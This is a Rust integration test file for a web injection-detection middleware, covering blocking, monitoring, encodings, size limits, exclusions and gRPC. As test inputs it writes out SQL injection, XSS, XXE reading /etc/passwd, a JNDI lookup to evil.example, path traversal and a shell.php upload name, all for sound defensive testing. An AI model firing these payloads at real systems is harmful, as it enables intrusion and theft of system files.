//! Integration tests of the injection layer: decisions, events, byte-identical bodies,
//! encodings, limits, exclusions, gRPC and axum.
#![cfg(feature = "injection")]

use std::{
    convert::Infallible,
    io::Write,
    sync::{Arc, Mutex},
    time::{Duration, Instant},
};

use bytes::Bytes;
use http::{HeaderMap, Request, Response, StatusCode};
use http_body::Frame;
use http_body_util::{BodyExt, Full, StreamBody};
use tower::{service_fn, Layer, ServiceExt};
use tower_fortify::{
    event::{Category, SecurityEvent, SecurityEvents},
    injection::{
        detect_sqli, Detector, Exclusion, InjectionLayer, InjectionRejection, InspectedBody, Mode,
        OversizedBody, Profile, UnknownEncoding,
    },
};

/// What the inner service saw.
#[derive(Debug, Default, Clone)]
struct Seen {
    reached: bool,
    data: Vec<u8>,
    trailers: Option<HeaderMap>,
    error: Option<String>,
    buffered: bool,
}

type BoxErr = Box<dyn std::error::Error + Send + Sync>;

/// Sends `req` through `layer` into a service that records what it received.
async fn send<B>(
    layer: &InjectionLayer,
    req: Request<B>,
) -> (Response<Bytes>, Option<SecurityEvents>, Seen)
where
    B: http_body::Body<Data = Bytes> + Send + Unpin + 'static,
    B::Error: std::fmt::Display,
{
    let seen = Arc::new(Mutex::new(Seen::default()));
    let record = seen.clone();
    let svc = layer.layer(service_fn(move |req: Request<InspectedBody<B>>| {
        let record = record.clone();
        async move {
            let mut s = Seen {
                reached: true,
                buffered: req.body().was_buffered(),
                ..Seen::default()
            };
            let mut body = req.into_body();
            while let Some(frame) = body.frame().await {
                match frame {
                    Ok(f) => match f.into_data() {
                        Ok(d) => s.data.extend_from_slice(&d),
                        Err(f) => s.trailers = f.into_trailers().ok(),
                    },
                    Err(e) => {
                        s.error = Some(e.to_string());
                        break;
                    }
                }
            }
            *record.lock().unwrap() = s;
            Ok::<_, Infallible>(Response::new(Full::new(Bytes::from_static(b"inner"))))
        }
    }));
    let res = svc.oneshot(req).await.unwrap();
    let (parts, body) = res.into_parts();
    let events = parts.extensions.get::<SecurityEvents>().cloned();
    let bytes = body.collect().await.unwrap().to_bytes();
    let seen = seen.lock().unwrap().clone();
    (Response::from_parts(parts, bytes), events, seen)
}

fn full(body: &'static str) -> Full<Bytes> {
    Full::new(Bytes::from_static(body.as_bytes()))
}

fn injection_events(events: &Option<SecurityEvents>) -> Vec<(Category, String, bool)> {
    events
        .iter()
        .flat_map(|e| e.iter())
        .filter_map(|e| match e {
            SecurityEvent::InjectionDetected {
                category,
                location,
                blocked,
                ..
            } => Some((*category, location.to_string(), *blocked)),
            _ => None,
        })
        .collect()
}

#[tokio::test]
async fn blocks_with_problem_json_without_echoing_the_payload() {
    let layer = InjectionLayer::builder().build().unwrap();
    let req = Request::get("/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--")
        .body(full(""))
        .unwrap();
    let (res, events, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    assert_eq!(res.headers()["content-type"], "application/problem+json");
    let body = String::from_utf8(res.body().to_vec()).unwrap();
    assert!(body.contains("\"sqli\""), "{body}");
    assert!(
        !body.to_lowercase().contains("union"),
        "payload echoed: {body}"
    );
    assert!(!seen.reached);
    let ev = injection_events(&events);
    assert!(ev
        .iter()
        .any(|(c, l, b)| *c == Category::Sqli && l == "query:id" && *b));
}

#[tokio::test]
async fn benign_requests_pass_untouched() {
    let layer = InjectionLayer::builder().build().unwrap();
    let req = Request::post("/account/profile?lang=de")
        .header("content-type", "application/x-www-form-urlencoded")
        .header(
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64; de-DE) Firefox/120.0",
        )
        .header("cookie", "session=abc123; theme=dark")
        .body(full(
            "first_name=Ren%C3%A9&last_name=O%27Brien&address=12+rue+de+la+Paix%2C+Paris",
        ))
        .unwrap();
    let (res, events, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(&res.body()[..], b"inner");
    assert!(events.is_none());
    assert_eq!(
        seen.data,
        b"first_name=Ren%C3%A9&last_name=O%27Brien&address=12+rue+de+la+Paix%2C+Paris"
    );
}

#[tokio::test]
async fn monitor_mode_passes_and_reports() {
    let layer = InjectionLayer::builder()
        .mode(Mode::Monitor)
        .build()
        .unwrap();
    let req = Request::get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")
        .body(full(""))
        .unwrap();
    let (res, events, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert!(seen.reached);
    let ev = injection_events(&events);
    assert!(ev
        .iter()
        .any(|(c, l, b)| *c == Category::Xss && l == "query:q" && !*b));
}

/// A body streaming the given frames.
type FramesBody = StreamBody<futures_util::stream::Iter<std::vec::IntoIter<FrameResult>>>;
type FrameResult = Result<Frame<Bytes>, std::io::Error>;

fn frames_body(frames: Vec<FrameResult>) -> FramesBody {
    StreamBody::new(futures_util::stream::iter(frames))
}

#[tokio::test]
async fn buffered_body_is_byte_identical_with_trailers() {
    let layer = InjectionLayer::builder().build().unwrap();
    let mut trailers = HeaderMap::new();
    trailers.insert("x-checksum", "abc".parse().unwrap());
    let body = frames_body(vec![
        Ok(Frame::data(Bytes::from_static(b"{\"a\": \"hel"))),
        Ok(Frame::data(Bytes::from_static(b"lo\", \"b\": [1, 2]}"))),
        Ok(Frame::trailers(trailers.clone())),
    ]);
    let req = Request::post("/api")
        .header("content-type", "application/json")
        .body(body)
        .unwrap();
    let (res, _, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert!(seen.buffered);
    assert_eq!(seen.data, b"{\"a\": \"hello\", \"b\": [1, 2]}");
    assert_eq!(seen.trailers, Some(trailers));
}

#[tokio::test]
async fn a_body_error_reaches_the_inner_service() {
    let layer = InjectionLayer::builder().build().unwrap();
    let body = frames_body(vec![
        Ok(Frame::data(Bytes::from_static(b"name=alice&"))),
        Err(std::io::Error::other("connection reset mid-body")),
    ]);
    let req = Request::post("/form")
        .header("content-type", "application/x-www-form-urlencoded")
        .body(body)
        .unwrap();
    let (res, _, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(seen.data, b"name=alice&");
    assert_eq!(seen.error.as_deref(), Some("connection reset mid-body"));
}

#[tokio::test]
async fn attack_in_json_is_located_by_path() {
    let layer = InjectionLayer::builder().build().unwrap();
    let req = Request::post("/api/v1/orders")
        .header("content-type", "application/json")
        .body(full(
            r#"{"items": [{"sku": "A-1", "note": "x' OR '1'='1' --"}]}"#,
        ))
        .unwrap();
    let (res, events, _) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    let ev = injection_events(&events);
    assert!(
        ev.iter().any(|(_, l, _)| l == "json:$.items[0].note"),
        "{ev:?}"
    );
}

#[tokio::test]
async fn prototype_pollution_keys_are_flagged() {
    let layer = InjectionLayer::builder().build().unwrap();
    let req = Request::post("/api/settings")
        .header("content-type", "application/json")
        .body(full(r#"{"__proto__": {"isAdmin": true}}"#))
        .unwrap();
    let (res, events, _) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    assert!(injection_events(&events)
        .iter()
        .any(|(c, l, _)| *c == Category::GenericInjection && l == "json-key:$.__proto__"));
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(data).unwrap();
    enc.finish().unwrap()
}

#[tokio::test]
async fn gzip_bodies_are_inspected_decompressed() {
    let layer = InjectionLayer::builder().build().unwrap();
    let compressed = gzip(b"comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    let req = Request::post("/comments")
        .header("content-type", "application/x-www-form-urlencoded")
        .header("content-encoding", "gzip")
        .body(Full::new(Bytes::from(compressed)))
        .unwrap();
    let (res, _, _) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn a_decompression_bomb_is_bounded_and_passed_on_unchanged() {
    let layer = InjectionLayer::builder()
        .body_limit(64 * 1024)
        .build()
        .unwrap();
    // 32 MiB of zeros compress to about 32 KiB.
    let compressed = gzip(&vec![b'a'; 32 << 20]);
    assert!(compressed.len() < 64 * 1024);
    let req = Request::post("/upload")
        .header("content-type", "text/plain")
        .header("content-encoding", "gzip")
        .body(Full::new(Bytes::from(compressed.clone())))
        .unwrap();
    let (res, _, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(seen.data, compressed);
}

#[tokio::test]
async fn oversized_bodies_follow_the_policy() {
    let big = format!("note={}", "a".repeat(2000));
    let prefix = InjectionLayer::builder().body_limit(1024).build().unwrap();
    let req = Request::post("/notes")
        .header("content-type", "application/x-www-form-urlencoded")
        .body(Full::new(Bytes::from(big.clone())))
        .unwrap();
    let (res, _, seen) = send(&prefix, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(seen.data, big.as_bytes());

    let reject = InjectionLayer::builder()
        .body_limit(1024)
        .oversized_body(OversizedBody::Reject)
        .build()
        .unwrap();
    let req = Request::post("/notes")
        .body(Full::new(Bytes::from(big)))
        .unwrap();
    let (res, _, seen) = send(&reject, req).await;
    assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
    assert!(!seen.reached);
    assert!(matches!(
        res.extensions().get::<InjectionRejection>(),
        Some(InjectionRejection::BodyTooLarge {
            limit: 1024,
            grpc: false,
            ..
        })
    ));

    // A body whose size is not known in advance is refused once it passes the limit.
    let chunks = (0..4)
        .map(|_| Ok(Frame::data(Bytes::from(vec![b'a'; 400]))))
        .collect();
    let req = Request::post("/notes").body(frames_body(chunks)).unwrap();
    let (res, _, seen) = send(&reject, req).await;
    assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
    assert!(!seen.reached);
    assert!(matches!(
        res.extensions().get::<InjectionRejection>(),
        Some(InjectionRejection::BodyTooLarge { limit: 1024, .. })
    ));
}

#[tokio::test]
async fn unknown_encodings_follow_the_policy() {
    let pass = InjectionLayer::builder().build().unwrap();
    let req = Request::post("/x")
        .header("content-encoding", "br")
        .body(full("not really brotli"))
        .unwrap();
    let (res, events, seen) = send(&pass, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert!(!seen.buffered);
    assert!(injection_events(&events)
        .iter()
        .any(|(c, _, b)| *c == Category::Protocol && !b));

    let reject = InjectionLayer::builder()
        .unknown_encoding(UnknownEncoding::Reject)
        .build()
        .unwrap();
    let req = Request::post("/x")
        .header("content-encoding", "br")
        .body(full("x"))
        .unwrap();
    let (res, _, _) = send(&reject, req).await;
    assert_eq!(res.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    assert_eq!(res.headers()["content-type"], "application/problem+json");
    match res.extensions().get::<InjectionRejection>() {
        Some(InjectionRejection::UnsupportedEncoding { encoding, grpc, .. }) => {
            assert_eq!(&**encoding, "br");
            assert!(!grpc);
        }
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn grpc_requests_get_a_trailers_only_rejection() {
    let layer = InjectionLayer::builder().build().unwrap();
    let req = Request::post("/pkg.Svc/Get")
        .header("content-type", "application/grpc")
        .header("x-user", "admin' OR 1=1 --")
        .body(full("\0\0\0\0\0"))
        .unwrap();
    let (res, _, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()["grpc-status"], "7");
    assert!(res.body().is_empty());
    assert!(!seen.reached);
    match res.extensions().get::<InjectionRejection>() {
        Some(InjectionRejection::Blocked {
            category,
            location,
            grpc,
            ..
        }) => {
            assert_eq!(*category, Category::Sqli);
            assert_eq!(&**location, "header:x-user");
            assert!(grpc);
        }
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn blocked_requests_carry_the_rejection_in_the_extensions() {
    let layer = InjectionLayer::builder().build().unwrap();
    let req = Request::get("/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--")
        .body(full(""))
        .unwrap();
    let (res, events, _) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    match res.extensions().get::<InjectionRejection>() {
        Some(InjectionRejection::Blocked {
            category,
            location,
            rule,
            score,
            categories,
            grpc,
            ..
        }) => {
            assert_eq!(*category, Category::Sqli);
            assert_eq!(&**location, "query:id");
            assert!(rule.starts_with("sqli."), "{rule}");
            assert!(*score >= 5);
            assert!(categories.contains(&Category::Sqli));
            assert!(!grpc);
        }
        other => panic!("{other:?}"),
    }
    // The events are still there beside the rejection.
    assert!(!injection_events(&events).is_empty());
}

#[tokio::test]
async fn a_custom_responder_answers_and_the_rejection_is_still_in_the_extensions() {
    let layer = InjectionLayer::builder()
        .oversized_body(OversizedBody::Reject)
        .body_limit(8)
        .responder(|why: &InjectionRejection| {
            let mut res = Response::new(Bytes::from_static(b"nope"));
            *res.status_mut() = match why {
                InjectionRejection::Blocked { .. } => StatusCode::BAD_REQUEST,
                other => other.status(),
            };
            res
        })
        .build()
        .unwrap();
    let req = Request::get("/?q=%3Cscript%3Ealert(1)%3C/script%3E")
        .body(full(""))
        .unwrap();
    let (res, events, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::BAD_REQUEST);
    assert_eq!(&res.body()[..], b"nope");
    assert!(!seen.reached);
    assert!(matches!(
        res.extensions().get::<InjectionRejection>(),
        Some(InjectionRejection::Blocked {
            category: Category::Xss,
            ..
        })
    ));
    assert!(injection_events(&events)
        .iter()
        .any(|(c, _, blocked)| *c == Category::Xss && *blocked));

    let req = Request::post("/notes").body(full("0123456789")).unwrap();
    let (res, _, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
    assert_eq!(&res.body()[..], b"nope");
    assert!(!seen.reached);
    assert!(matches!(
        res.extensions().get::<InjectionRejection>(),
        Some(InjectionRejection::BodyTooLarge { limit: 8, .. })
    ));
}

#[tokio::test]
async fn passed_requests_carry_no_rejection() {
    let monitor = InjectionLayer::builder()
        .mode(Mode::Monitor)
        .build()
        .unwrap();
    let req = Request::get("/?q=%3Cscript%3Ealert(1)%3C/script%3E")
        .body(full(""))
        .unwrap();
    let (res, events, _) = send(&monitor, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert!(events.is_some());
    assert!(res.extensions().get::<InjectionRejection>().is_none());
}

#[tokio::test]
async fn exclusions_excuse_one_family_at_one_location() {
    let layer = InjectionLayer::builder()
        .exclude(
            Exclusion::route("/api/posts")
                .unwrap()
                .location("json:$.body")
                .unwrap()
                .categories([Category::Xss]),
        )
        .exclude(Exclusion::route("/upload/*").unwrap().body())
        .build()
        .unwrap();
    let html = r#"{"title": "Hi", "body": "<p>See <img src=x onerror=alert(1)></p>"}"#;
    let req = Request::post("/api/posts")
        .header("content-type", "application/json")
        .body(full(html))
        .unwrap();
    assert_eq!(send(&layer, req).await.0.status(), StatusCode::OK);
    // Another field, or another route, is still inspected.
    let other = r#"{"title": "<script>alert(1)</script>", "body": "x"}"#;
    let req = Request::post("/api/posts")
        .header("content-type", "application/json")
        .body(full(other))
        .unwrap();
    assert_eq!(send(&layer, req).await.0.status(), StatusCode::FORBIDDEN);
    let req = Request::post("/api/comments")
        .header("content-type", "application/json")
        .body(full(html))
        .unwrap();
    assert_eq!(send(&layer, req).await.0.status(), StatusCode::FORBIDDEN);
    // Excluded bodies are not even buffered.
    let req = Request::post("/upload/a.bin")
        .body(full("<script>alert(1)</script>"))
        .unwrap();
    let (res, _, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert!(!seen.buffered);
}

#[tokio::test]
async fn multipart_inspects_fields_and_file_names_not_contents() {
    let layer = InjectionLayer::builder().build().unwrap();
    let body = |filename: &str, content: &str| {
        format!(
            "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nholiday\r\n--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\nContent-Type: text/plain\r\n\r\n{content}\r\n--XyZ--\r\n"
        )
    };
    let req = Request::post("/upload")
        .header("content-type", "multipart/form-data; boundary=XyZ")
        .body(Full::new(Bytes::from(body(
            "notes.txt",
            "' OR 1=1 -- <script>alert(1)</script>",
        ))))
        .unwrap();
    let (r, ev, _) = send(&layer, req).await;
    assert_eq!(r.status(), StatusCode::OK, "{ev:?}");
    let req = Request::post("/upload")
        .header("content-type", "multipart/form-data; boundary=XyZ")
        .body(Full::new(Bytes::from(body("shell.php", "hello"))))
        .unwrap();
    let (res, events, _) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    assert!(injection_events(&events)
        .iter()
        .any(|(_, l, _)| l == "multipart-filename:file"));
}

#[tokio::test]
async fn xml_text_and_entities_are_inspected() {
    let layer = InjectionLayer::builder().build().unwrap();
    let xxe =
        r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
    let req = Request::post("/soap")
        .header("content-type", "application/xml")
        .body(full(xxe))
        .unwrap();
    assert_eq!(send(&layer, req).await.0.status(), StatusCode::FORBIDDEN);
    let ok = r#"<order id="7"><note>Leave at the door, thanks!</note></order>"#;
    let req = Request::post("/soap")
        .header("content-type", "application/xml")
        .body(full(ok))
        .unwrap();
    assert_eq!(send(&layer, req).await.0.status(), StatusCode::OK);
}

#[tokio::test]
async fn headers_and_cookies_are_inspected_and_skip_list_is_configurable() {
    let layer = InjectionLayer::builder().build().unwrap();
    let req = Request::get("/")
        .header("x-api-version", "${jndi:ldap://evil.example/a}")
        .body(full(""))
        .unwrap();
    assert_eq!(send(&layer, req).await.0.status(), StatusCode::FORBIDDEN);
    let req = Request::get("/")
        .header("cookie", "prefs=../../../../etc/passwd")
        .body(full(""))
        .unwrap();
    assert_eq!(send(&layer, req).await.0.status(), StatusCode::FORBIDDEN);
    let skip = InjectionLayer::builder()
        .skip_header("x-api-version")
        .build()
        .unwrap();
    let req = Request::get("/")
        .header("x-api-version", "${jndi:ldap://evil.example/a}")
        .body(full(""))
        .unwrap();
    assert_eq!(send(&skip, req).await.0.status(), StatusCode::OK);
}

#[tokio::test]
async fn strict_profile_flags_more() {
    let value = "/search?q=%3Cb%3Ebold%3C%2Fb%3E%22%20x%3D%22";
    let balanced = InjectionLayer::builder().build().unwrap();
    let strict = InjectionLayer::builder()
        .profile(Profile::Strict)
        .build()
        .unwrap();
    let req = || Request::get(value).body(full("")).unwrap();
    assert_eq!(send(&balanced, req()).await.0.status(), StatusCode::OK);
    assert_eq!(send(&strict, req()).await.0.status(), StatusCode::FORBIDDEN);
}

#[test]
fn configuration_errors_are_values() {
    assert_eq!(
        InjectionLayer::builder()
            .threshold(0)
            .build()
            .unwrap_err()
            .setting(),
        "injection.threshold"
    );
    assert_eq!(
        InjectionLayer::builder()
            .body_limit(0)
            .build()
            .unwrap_err()
            .setting(),
        "injection.body_limit"
    );
    assert_eq!(
        InjectionLayer::builder()
            .max_depth(0)
            .build()
            .unwrap_err()
            .setting(),
        "injection.max_depth"
    );
    assert_eq!(
        InjectionLayer::builder()
            .skip_header("bad header")
            .build()
            .unwrap_err()
            .setting(),
        "injection.skip_header"
    );
    assert_eq!(
        InjectionLayer::builder()
            .inspect_header("bad header")
            .build()
            .unwrap_err()
            .setting(),
        "injection.inspect_header"
    );
    // The standalone detector names its own settings.
    assert_eq!(
        Detector::builder()
            .threshold(0)
            .build()
            .unwrap_err()
            .setting(),
        "injection.detector.threshold"
    );
    assert_eq!(
        Detector::builder()
            .skip_header("bad header")
            .build()
            .unwrap_err()
            .setting(),
        "injection.detector.skip_header"
    );
    // Exclusions validate where they are written.
    assert_eq!(
        Exclusion::route("api").unwrap_err().setting(),
        "injection.exclusion.route"
    );
    assert_eq!(
        Exclusion::route("/api")
            .unwrap()
            .location("nowhere")
            .unwrap_err()
            .setting(),
        "injection.exclusion.location"
    );
}

#[test]
fn a_mebibyte_of_adversarial_input_inspects_in_bounded_time() {
    let detector = Detector::builder().build().unwrap();
    let inputs = [
        "%25".repeat(350_000),
        "<a ".repeat(350_000),
        "' or ".repeat(200_000),
        "${".repeat(500_000),
        "&#x".repeat(350_000),
        "/*".repeat(500_000),
    ];
    for input in inputs {
        let req = Request::post("/x")
            .header("content-type", "text/plain")
            .body(Bytes::from(input.clone()))
            .unwrap();
        let started = Instant::now();
        let _ = detector.inspect(&req);
        let _ = detect_sqli(&input);
        // Generous: linear-time inspection of 1 MiB takes milliseconds.
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "{}",
            &input[..8]
        );
    }
}

#[tokio::test]
async fn works_as_an_axum_layer() {
    use axum::{routing::get, Router};
    let app: Router = Router::new()
        .route("/hello", get(|| async { "hi" }))
        .layer(InjectionLayer::builder().build().unwrap());
    let res = app
        .clone()
        .oneshot(
            Request::get("/hello?name=ann")
                .body(axum::body::Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let res = app
        .oneshot(
            Request::get("/hello?name=%3Csvg%20onload%3Dalert(1)%3E")
                .body(axum::body::Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
}

#[test]
fn layer_and_service_are_send_sync_clone() {
    fn assert_bounds<T: Clone + Send + Sync + 'static>() {}
    assert_bounds::<InjectionLayer>();
    assert_bounds::<Detector>();
    assert_bounds::<InjectionRejection>();
    assert_bounds::<tower_fortify::injection::InjectionLayerBuilder>();
    let _: BoxErr = "unused".into();
}

mod properties {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

        /// No input panics, and the body that reaches the inner service (when it does)
        /// is exactly the body that was sent.
        #[test]
        fn no_panic_and_identical_body(
            path in "/[a-zA-Z0-9%/._'<>\"-]{0,40}",
            query in proptest::collection::vec(any::<u8>(), 0..64),
            header in "[ -~]{0,60}",
            ct in prop::sample::select(vec!["", "application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=b", "application/xml", "text/plain"]),
            chunks in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..200), 0..4),
        ) {
            let rt = tokio::runtime::Builder::new_current_thread().build().unwrap();
            let q: String = query.iter().map(|b| format!("%{b:02X}")).collect();
            let uri = format!("{}?v={q}", if path.is_empty() { "/" } else { &path });
            let Ok(uri) = uri.parse::<http::Uri>() else { return Ok(()); };
            let sent: Vec<u8> = chunks.concat();
            let frames: Vec<Result<Frame<Bytes>, std::io::Error>> =
                chunks.into_iter().map(|c| Ok(Frame::data(Bytes::from(c)))).collect();
            let mut builder = Request::post(uri).header("x-test", header.as_str());
            if !ct.is_empty() {
                builder = builder.header("content-type", ct);
            }
            let req = builder.body(frames_body(frames)).unwrap();
            let layer = InjectionLayer::builder().body_limit(256).build().unwrap();
            let (res, _, seen) = rt.block_on(send(&layer, req));
            prop_assert!(res.status() == StatusCode::OK || res.status() == StatusCode::FORBIDDEN);
            if seen.reached {
                prop_assert_eq!(seen.data, sent);
            }
        }
    }
}
